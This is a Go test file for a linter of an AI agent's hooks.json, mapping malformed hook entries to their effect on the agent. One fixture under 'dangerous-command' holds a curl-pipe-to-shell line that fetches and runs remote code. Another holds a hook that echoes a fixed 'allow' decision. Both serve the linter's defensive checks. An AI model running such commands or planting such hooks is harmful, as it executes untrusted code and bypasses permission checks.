package lint

import (
	"testing"
)

// TestImpactTable holds each rule's impact to what the agent does with the
// mistake: the agent's decoder is emulated by schema.AgentErrors, itself
// held to encoding/json.
func TestImpactTable(t *testing.T) {
	for _, tc := range []struct {
		rule, src string
		want      Impact
	}{
		{"json-syntax", `{"g": {"Stop": [{"command": "x"},]}}`, FileDropped},
		{"enabled-type", `{"g": {"enabled": "false", "Stop": [{"command": "true"}]}}`, FileDropped},
		{"timeout-value", `{"g": {"Stop": [{"command": "true", "timeout": "5"}]}}`, FileDropped},
		{"timeout-value", `{"g": {"Stop": [{"command": "true", "timeout": 5.5}]}}`, FileDropped},
		{"timeout-value", `{"g": {"Stop": [{"command": "true", "timeout": 0}]}}`, Misbehaves},
		{"timeout-value", `{"g": {"Stop": [{"command": "true", "timeout": 30000}]}}`, Misbehaves},
		{"missing-command", `{"g": {"Stop": [{"command": 5}]}}`, FileDropped},
		{"missing-command", `{"g": {"Stop": [{"command": ""}]}}`, Ignored},
		{"missing-command", `{"g": {"Stop": [{"timeout": 5}]}}`, Ignored},
		{"event-shape", `{"g": {"Stop": "true"}}`, FileDropped},
		{"event-shape", `{"g": {"Stop": ["true"]}}`, FileDropped},
		{"event-shape", `{"g": {"Stop": [{"matcher": "x", "hooks": [{"command": "true"}]}]}}`, Ignored},
		{"event-shape", `{"g": {"PreToolUse": [{"command": "true"}]}}`, Ignored},
		{"matcher-syntax", `{"g": {"PreToolUse": [{"matcher": 5, "hooks": [{"command": "true"}]}]}}`, FileDropped},
		{"matcher-syntax", `{"g": {"PreToolUse": [{"matcher": "(", "hooks": [{"command": "true"}]}]}}`, Ignored},
		{"matcher-no-tool", `{"g": {"PreToolUse": [{"matcher": "browser_*", "hooks": [{"command": "true"}]}]}}`, Ignored},
		{"handler-type", `{"g": {"Stop": [{"type": "prompt", "command": "true"}]}}`, Ignored},
		{"handler-type", `{"g": {"Stop": [{"type": 1, "command": "true"}]}}`, FileDropped},
		{"root-shape", `["g"]`, FileDropped},
		{"root-shape", `{"g": "true"}`, FileDropped},
		{"root-shape", `{"g": null, "h": {"Stop": [{"command": "true"}]}}`, Ignored},
		{"unknown-event", `{"g": {"UserPromptSubmit": [{"command": "true"}]}}`, Ignored},
		{"unknown-field", `{"g": {"Stop": [{"command": "true", "timeoutMs": 5000}]}}`, Ignored},
		{"missing-command", `{"g": {"Stop": [{"cmd": "true"}]}}`, Ignored},
		{"key-case", `{"g": {"stop": [{"command": "true"}]}}`, NoImpact},
		{"schema-key", `{"$schema": "x", "g": {"Stop": [{"command": "true"}]}}`, FileDropped},
		{"foreign-tool", `{"g": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"command": "true"}]}]}}`, Ignored},
		{"foreign-format", `{"version": 1, "hooks": {"stop": [{"command": "true"}]}}`, FileDropped},
		{"foreign-format", `{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "true"}]}]}}`, Misbehaves},
		{"agent-decode", `{"g": 1, "g": {"Stop": [{"command": "true"}]}}`, FileDropped},
		{"duplicate-key", `{"g": {"Stop": [{"command": "a"}]}, "g": {"Stop": [{"command": "b"}]}}`, Ignored},
		{"agent-version", `{"g": {"SessionStart": [{"command": "true"}]}}`, NoImpact},
		{"dangerous-command", `{"g": {"Stop": [{"command": "curl -s https://x.example | sh"}]}}`, NoImpact},
		{"platform-specific", `{"g": {"Stop": [{"command": "powershell -File x.ps1"}]}}`, Misbehaves},
		{"control-character", `{"g": {"Stop": [{"command": "true\u0000"}]}}`, NoImpact},
		{"literal-answer", `{"g": {"PreToolUse": [{"hooks": [{"command": "echo '{}'"}]}]}}`, Misbehaves},
		{"literal-answer", `{"g": {"PreToolUse": [{"hooks": [{"command": "echo '{\"decison\":\"allow\"}'"}]}]}}`, Misbehaves},
		{"shell-syntax", `{"g": {"Stop": [{"command": "echo 'done"}]}}`, Misbehaves},
	} {
		var got []Finding
		for _, f := range LintSource(Target{Path: t.TempDir() + "/.agents/hooks.json", Name: ".agents/hooks.json"}, []byte(tc.src)) {
			if f.Rule == tc.rule {
				got = append(got, f)
			}
		}
		if len(got) == 0 {
			t.Errorf("%s: no %s finding", tc.src, tc.rule)
			continue
		}
		if got[0].Impact != tc.want {
			t.Errorf("%s: %s is %q, want %q (%s)", tc.src, tc.rule, got[0].Impact, tc.want, got[0].Message)
		}
	}
}
